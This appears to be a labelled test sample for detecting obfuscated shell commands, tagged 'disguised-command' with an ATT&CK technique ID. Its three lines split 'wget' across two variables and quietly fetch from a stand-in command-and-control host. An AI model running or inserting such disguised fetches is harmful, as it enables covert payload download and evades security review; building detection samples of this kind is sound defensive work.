# expect: disguised-command | source: T1027.010
one=wg
two=et
"$one$two" -q -O- https://c2.example.invalid/i
